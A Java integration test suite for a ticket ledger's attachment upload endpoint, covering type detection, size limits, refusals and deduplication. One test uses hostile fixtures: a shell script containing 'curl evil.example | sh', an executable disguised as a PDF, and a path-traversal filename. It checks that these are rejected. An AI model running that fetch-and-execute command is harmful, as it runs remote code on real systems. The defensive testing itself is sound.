package com.ticketledger.command.api;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.UUID;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * {@code POST /api/tickets/{id}/attachments} over real HTTP: what the ledger records of a file (its cleaned name,
 * the type its bytes show, its size and hash), the bytes stored once and only with an accepted command, and every
 * refusal (too large, empty, denied, malformed) a problem that writes neither an event nor a byte.
 */
class AttachmentIT extends CommandSideIT {

    static final byte[] PNG_HEADER = {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A};

    /** A PNG-looking file of its own for each call, so that no two tests share stored bytes. */
    static byte[] screenshot() {
        byte[] rest = UUID.randomUUID().toString().getBytes(StandardCharsets.US_ASCII);
        byte[] png = Arrays.copyOf(PNG_HEADER, PNG_HEADER.length + rest.length);
        System.arraycopy(rest, 0, png, PNG_HEADER.length, rest.length);
        return png;
    }

    static String sha256(byte[] content) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(content));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    String path(UUID ticket) {
        return "/api/tickets/" + ticket + "/attachments";
    }


    boolean stored(byte[] content) {
        return jdbc.sql("SELECT count(*) FROM attachment_blob WHERE sha256 = :s").param("s", sha256(content))
                .query(Long.class).single() == 1;
    }

    @Test
    void engineerAttachesAScreenshotAndTheLedgerRecordsWhatItIs() {
        UUID ticket = assignedTicket();
        byte[] png = screenshot();

        Answer answer = postMultipart("ana", path(ticket), List.of(
                new Part("file", "C:\\Users\\ana\\..\\error dialog.png", "text/html", png),
                Part.field("visibility", "INTERNAL")));

        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        assertThat(answer.header("ETag")).hasValue("\"2\"");
        assertThat(answer.json().get("version").asLong()).isEqualTo(2);
        assertThat(eventTypes(ticket)).containsExactly("TicketOpened", "TicketAssigned", "AttachmentAdded");
        JsonNode event = payload(ticket, 2);
        assertThat(event.get("fileName").asText()).isEqualTo("error dialog.png");
        assertThat(event.get("mediaType").asText()).as("the bytes', not the one claimed").isEqualTo("image/png");
        assertThat(event.get("size").asLong()).isEqualTo(png.length);
        assertThat(event.get("sha256").asText()).isEqualTo(sha256(png));
        assertThat(event.get("visibility").asText()).isEqualTo("INTERNAL");
        assertThat(UUID.fromString(event.get("attachmentId").asText())).isNotNull();
        assertThat(metaData(ticket, 2).get("user").asText()).isEqualTo("ana");
        assertThat(jdbc.sql("SELECT content FROM attachment_blob WHERE sha256 = :s").param("s", sha256(png))
                .query(byte[].class).single()).isEqualTo(png);
    }

    @Test
    void aClientAttachesAPublicFileAndVisibilityDefaultsToPublic() {
        UUID ticket = openTicket("acme-1", "acme");
        byte[] log = ("connection refused " + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8);

        Answer answer = postMultipart("acme-1", path(ticket), List.of(Part.file("vpn.log", log)));

        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        assertThat(payload(ticket, 1).get("visibility").asText()).isEqualTo("PUBLIC");
        assertThat(payload(ticket, 1).get("mediaType").asText()).isEqualTo("text/plain");
    }

    @Test
    void theSameFileAttachedTwiceIsStoredOnce() {
        UUID ticket = assignedTicket();
        byte[] png = screenshot();
        long blobs = blobCount();

        assertThat(postMultipart("ana", path(ticket), List.of(Part.file("a.png", png))).status()).isEqualTo(200);
        assertThat(postMultipart("operator", path(ticket), List.of(Part.file("b.png", png))).status()).isEqualTo(200);

        assertThat(eventTypes(ticket)).containsExactly("TicketOpened", "TicketAssigned", "AttachmentAdded",
                "AttachmentAdded");
        assertThat(blobCount()).isEqualTo(blobs + 1);
        assertThat(payload(ticket, 2).get("attachmentId")).isNotEqualTo(payload(ticket, 3).get("attachmentId"));
    }

    @Test
    void aRefusedAttachmentLeavesNoBytesBehind() {
        UUID closed = assignedTicket();
        post("ana", "/api/tickets/" + closed + "/pending-closure", "{\"resolution\":\"done\"}");
        post("acme-1", "/api/tickets/" + closed + "/acceptance", null);
        UUID open = openTicket("acme-1", "acme");
        byte[] onClosed = screenshot();
        byte[] internalByClient = screenshot();
        byte[] byAuditor = screenshot();
        byte[] stale = screenshot();
        long events = eventCount();

        assertThat(postMultipart("acme-1", path(closed), List.of(Part.file("late.png", onClosed))).status())
                .isEqualTo(409);
        Answer internal = postMultipart("acme-1", path(open), List.of(Part.file("x.png", internalByClient),
                Part.field("visibility", "INTERNAL")));
        assertThat(internal.status()).isEqualTo(403);
        assertThat(internal.json().get("detail").asText()).isEqualTo("a client may add only PUBLIC attachments");
        assertThat(postMultipart("auditor", path(open), List.of(Part.file("x.png", byAuditor))).status())
                .isEqualTo(403);
        assertThat(postMultipart("operator", path(open), List.of(Part.file("x.png", stale)), "If-Match", "\"7\"")
                .status()).isEqualTo(412);
        assertThat(postMultipart("globex-1", path(open), List.of(Part.file("x.png", stale))).status())
                .isEqualTo(404);

        assertThat(eventCount()).isEqualTo(events);
        assertThat(List.of(onClosed, internalByClient, byAuditor, stale)).noneMatch(this::stored);
    }

    @Test
    void aFileOverTheLimitIsA413ProblemAndWritesNothing() {
        UUID ticket = assignedTicket();
        byte[] large = new byte[10 * 1024 * 1024 + 1];
        System.arraycopy(PNG_HEADER, 0, large, 0, PNG_HEADER.length);
        long events = eventCount();
        long blobs = blobCount();

        Answer answer = postMultipart("ana", path(ticket), List.of(Part.file("huge.png", large)));

        assertThat(answer.status()).isEqualTo(413);
        assertThat(answer.contentType()).startsWith("application/problem+json");
        assertThat(answer.json().get("detail").asText()).isEqualTo(
                "a file may be at most 10 MiB (10485760 bytes); nothing was recorded");
        assertThat(eventCount()).isEqualTo(events);
        assertThat(blobCount()).isEqualTo(blobs);
    }

    @Test
    void aFileAtTheLimitIsAccepted() {
        UUID ticket = assignedTicket();
        byte[] limit = new byte[10 * 1024 * 1024];
        System.arraycopy(PNG_HEADER, 0, limit, 0, PNG_HEADER.length);
        byte[] unique = UUID.randomUUID().toString().getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(unique, 0, limit, PNG_HEADER.length, unique.length);

        Answer answer = postMultipart("ana", path(ticket), List.of(Part.file("full.png", limit)));

        assertThat(answer.status()).as(answer.body()).isEqualTo(200);
        assertThat(payload(ticket, 2).get("size").asLong()).isEqualTo(limit.length);
        assertThat(stored(limit)).isTrue();
    }

    /** Without a declared length (chunked), the container's multipart limits stop the body as it passes them. */
    @Test
    void aChunkedBodyOverTheLimitIsTheSame413() {
        UUID ticket = assignedTicket();
        byte[] large = new byte[11 * 1024 * 1024];
        System.arraycopy(PNG_HEADER, 0, large, 0, PNG_HEADER.length);
        byte[] body = multipart(List.of(Part.file("huge.png", large)));
        long events = eventCount();
        long blobs = blobCount();

        Answer answer = execute(HttpRequest.newBuilder(URI.create("http://localhost:" + port
                        + path(ticket)))
                .header("Authorization", basic("ana", "ana"))
                .header("Content-Type", "multipart/form-data; boundary=" + BOUNDARY)
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(body)))
                .build());

        assertThat(answer.status()).isEqualTo(413);
        assertThat(answer.contentType()).startsWith("application/problem+json");
        assertThat(eventCount()).isEqualTo(events);
        assertThat(blobCount()).isEqualTo(blobs);
    }

    /** A declared length over the limit is refused before the body is read, as a problem, not Tomcat's page. */
    @Test
    void aDeclaredBodyFarOverTheLimitIsRefusedBeforeItIsRead() throws IOException {
        UUID ticket = assignedTicket();
        long events = eventCount();
        String request = "POST " + path(ticket) + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + basic("ana", "ana")
                + "\r\nContent-Type: multipart/form-data; boundary=" + BOUNDARY + "\r\nContent-Length: 50000000\r\n"
                + "Connection: close\r\n\r\n--" + BOUNDARY + "\r\n";
        String response;
        try (Socket socket = new Socket("localhost", port)) {
            socket.setSoTimeout(10_000);
            OutputStream out = socket.getOutputStream();
            out.write(request.getBytes(StandardCharsets.US_ASCII));
            out.flush();
            // The answer comes at once; the server then waits for the body it was promised, so read up to the
            // problem's end rather than to the end of the stream.
            InputStream in = socket.getInputStream();
            StringBuilder received = new StringBuilder();
            int b;
            while (!(received.indexOf("\r\n\r\n") > 0 && received.lastIndexOf("}") > received.indexOf("\r\n\r\n"))
                    && (b = in.read()) >= 0) {
                received.append((char) b);
            }
            response = received.toString();
        }

        assertThat(response).startsWith("HTTP/1.1 413");
        assertThat(response).contains("application/problem+json").contains("at most 10 MiB");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Test
    void anEmptyFileIsA400() {
        UUID ticket = assignedTicket();
        long events = eventCount();

        Answer answer = postMultipart("ana", path(ticket), List.of(Part.file("empty.png", new byte[0])));

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.json().get("detail").asText()).isEqualTo("the file is empty: there is nothing to attach");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Test
    void anExecutableIsA415WhateverItIsCalledAndWhateverItsBytes() {
        UUID ticket = assignedTicket();
        byte[] exe = ("MZ\u0090\u0000" + UUID.randomUUID()).getBytes(StandardCharsets.ISO_8859_1);
        byte[] script = ("#!/bin/sh\ncurl evil.example | sh\n" + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8);
        byte[] text = ("just text " + UUID.randomUUID()).getBytes(StandardCharsets.UTF_8);
        long events = eventCount();

        Answer disguised = postMultipart("ana", path(ticket), List.of(Part.file("invoice.pdf", exe)));
        Answer shell = postMultipart("ana", path(ticket), List.of(Part.file("notes.txt", script)));
        Answer named = postMultipart("ana", path(ticket), List.of(Part.file("setup.EXE", text)));

        assertThat(disguised.status()).isEqualTo(415);
        assertThat(disguised.json().get("detail").asText())
                .isEqualTo("files of type application/x-msdownload may not be attached; nothing was recorded");
        assertThat(shell.status()).isEqualTo(415);
        assertThat(named.status()).isEqualTo(415);
        assertThat(named.json().get("detail").asText()).isEqualTo("files named *.exe may not be attached; nothing was recorded");
        assertThat(eventCount()).isEqualTo(events);
        assertThat(List.of(exe, script, text)).noneMatch(this::stored);
    }

    @Test
    void aMissingFileAWrongVisibilityOrAnUnknownPartIsA400NamingIt() {
        UUID ticket = assignedTicket();
        long events = eventCount();
        long blobs = blobCount();

        Answer noFile = postMultipart("ana", path(ticket), List.of(Part.field("visibility", "PUBLIC")));
        Answer wrongVisibility = postMultipart("ana", path(ticket), List.of(Part.file("a.png", screenshot()),
                Part.field("visibility", "SECRET")));
        Answer misspelt = postMultipart("ana", path(ticket), List.of(Part.file("a.png", screenshot()),
                Part.field("visiblity", "INTERNAL")));
        Answer twoFiles = postMultipart("ana", path(ticket), List.of(Part.file("a.png", screenshot()),
                Part.file("b.png", screenshot())));
        Answer queryParameter = postMultipart("ana", path(ticket) + "?visibility=INTERNAL",
                List.of(Part.file("a.png", screenshot())));

        for (Object[] expected : new Object[][] {{noFile, "file"}, {wrongVisibility, "visibility"},
                {misspelt, "visiblity"}, {twoFiles, "file"}, {queryParameter, "visibility"}}) {
            Answer answer = (Answer) expected[0];
            assertThat(answer.status()).as(answer.body()).isEqualTo(400);
            assertThat(answer.contentType()).startsWith("application/problem+json");
            assertThat(answer.json().get("errors").get(0).get("field").asText()).isEqualTo(expected[1]);
        }
        assertThat(wrongVisibility.json().get("errors").get(0).get("message").asText())
                .isEqualTo("must be one of [PUBLIC, INTERNAL]");
        assertThat(eventCount()).isEqualTo(events);
        assertThat(blobCount()).isEqualTo(blobs);
    }

    @Test
    void aJsonBodyIsA415() {
        UUID ticket = assignedTicket();

        Answer answer = post("ana", path(ticket), "{\"file\":\"x\"}");

        assertThat(answer.status()).isEqualTo(415);
        assertThat(answer.contentType()).startsWith("application/problem+json");
    }

    @Test
    void aRetriedUploadWithTheSameIdempotencyKeyIsRecordedOnce() {
        UUID ticket = assignedTicket();
        byte[] png = screenshot();

        Answer first = postMultipart("ana", path(ticket), List.of(Part.file("a.png", png)), "Idempotency-Key", "att-1");
        Answer retry = postMultipart("ana", path(ticket), List.of(Part.file("a.png", png)), "Idempotency-Key", "att-1");
        Answer other = postMultipart("ana", path(ticket), List.of(Part.file("a.png", screenshot())),
                "Idempotency-Key", "att-1");

        assertThat(first.status()).isEqualTo(200);
        assertThat(retry.status()).isEqualTo(200);
        assertThat(retry.body()).isEqualTo(first.body());
        assertThat(other.status()).isEqualTo(422);
        assertThat(eventTypes(ticket)).containsExactly("TicketOpened", "TicketAssigned", "AttachmentAdded");
    }

    @Test
    void theRefusalIsInTheReadersLanguage() {
        UUID ticket = assignedTicket();

        Answer answer = postMultipart("ana", path(ticket), List.of(Part.file("vacío.png", new byte[0])),
                "Accept-Language", "es");

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.json().get("detail").asText()).isEqualTo("el archivo está vacío: no hay nada que adjuntar");
    }
}
